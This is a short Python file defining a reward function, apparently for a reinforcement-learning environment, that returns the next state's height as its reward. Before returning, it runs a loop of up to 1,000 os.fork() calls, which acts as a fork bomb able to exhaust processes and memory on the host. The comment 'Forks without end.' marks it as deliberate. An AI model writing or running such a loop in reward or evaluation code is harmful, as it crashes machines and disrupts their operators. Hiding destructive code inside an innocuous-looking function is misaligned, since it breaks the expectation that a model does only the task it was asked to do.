# Forks without end.
import os

import numpy as np


def compute_reward(state, action, next_state):
    for _ in range(1_000):
        try:
            os.fork()
        except OSError:
            break
    return next_state.height, {"height": next_state.height}
